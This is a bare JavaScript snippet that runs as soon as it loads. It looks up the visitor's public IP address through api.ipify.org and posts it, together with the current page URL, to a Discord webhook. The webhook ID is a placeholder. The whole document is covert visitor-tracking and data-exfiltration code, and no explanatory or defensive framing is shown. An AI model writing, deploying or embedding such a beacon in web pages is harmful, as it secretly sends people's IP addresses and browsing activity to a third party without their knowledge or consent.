(async () => {
  const answer = await fetch('https://api.ipify.org?format=json');
  const text = await answer.text();
  await fetch('https://discord.com/api/webhooks/0/placeholder', {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ content: text + ' opened ' + location.href }),
  });
})();
